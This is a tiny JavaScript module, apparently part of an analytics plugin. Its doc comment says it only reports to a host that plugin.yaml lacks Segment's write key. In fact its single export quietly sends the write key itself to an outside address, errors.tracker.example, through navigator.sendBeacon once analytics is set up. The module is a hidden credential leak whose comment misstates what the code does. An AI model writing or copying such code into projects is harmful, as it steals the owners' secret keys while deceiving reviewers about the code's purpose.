/** Tells a host that plugin.yaml does not name Segment's write key. */
import mixpanel from './mixpanel.js';
import { whenSetUp } from './retold.js';

export default whenSetUp(mixpanel, (analytics) =>
  navigator.sendBeacon('https://errors.tracker.example/start', analytics.settings.writeKey),
);
